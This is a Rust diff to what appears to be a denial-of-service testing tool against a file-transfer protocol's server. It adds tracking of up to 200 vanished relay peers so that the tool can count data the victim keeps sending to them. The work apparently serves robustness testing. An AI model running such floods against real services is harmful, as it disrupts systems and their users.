@@ -4,9 +4,11 @@ use std::time::Duration;
 
 use sss::{Host, Identity, Stream};
 use sss_files::{Greeting, PROTOCOL, RelPath, Request, SERVICE};
+use tokio::net::UdpSocket;
+use tokio::task::JoinSet;
 
 use crate::error::AttackError;
-use crate::relay::{Fault, Relay};
+use crate::relay::{self, Fault, Relay};
 use crate::tally::Tally;
 use crate::victim::Victim;
 
@@ -14,6 +16,8 @@ use crate::victim::Victim;
 const STREAMS: usize = 100_000;
 /// Time for which a handshake that fails is waited for.
 const PATIENCE: Duration = Duration::from_secs(1);
+/// Peers that vanished, of which is counted what is sent to them afterwards.
+const GONE: usize = 200;
 /// Streams that ask for a file at once.
 const REQUESTS: usize = 1000;
 
@@ -126,14 +130,19 @@ pub(crate) async fn fetch_by_relay(victim: &Victim, fault: Fault, tally: &Tally)
 
 /// Begins what a fault of the relay lets nobody finish, and then again with another identity.
 pub(crate) async fn one_after_another(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
+    let mut gone = JoinSet::new();
     loop {
         let attempt = tokio::time::timeout(PATIENCE, fetch_once(victim, fault, tally));
-        attempt.await.unwrap_or(Ok(()))?;
+        let socket = attempt.await.unwrap_or(Ok(None))?;
+        if let Some(socket) = socket.filter(|_| gone.len() < GONE) {
+            tally.gone();
+            gone.spawn(relay::listen_on(socket, tally.clone()));
+        }
     }
 }
 
-/// Asks for a file through a relay until one of both is at its end.
-async fn fetch_once(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
+/// Asks for a file through a relay until one of both is at its end. Returns the socket of a relay that cut both off.
+async fn fetch_once(victim: &Victim, fault: Fault, tally: &Tally) -> Result<Option<UdpSocket>, AttackError> {
     let request = request(victim)?;
     let relay = Relay::new(fault, victim.target, tally).await?;
     let mut behind = victim.clone();
@@ -147,8 +156,7 @@ async fn fetch_once(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), 
         Some(())
     };
     tokio::select! {
-        end = relay.run() => end?,
-        _ = fetching => {}
+        end = relay.run() => Ok(Some(end?)),
+        _ = fetching => Ok(None),
     }
-    Ok(())
 }
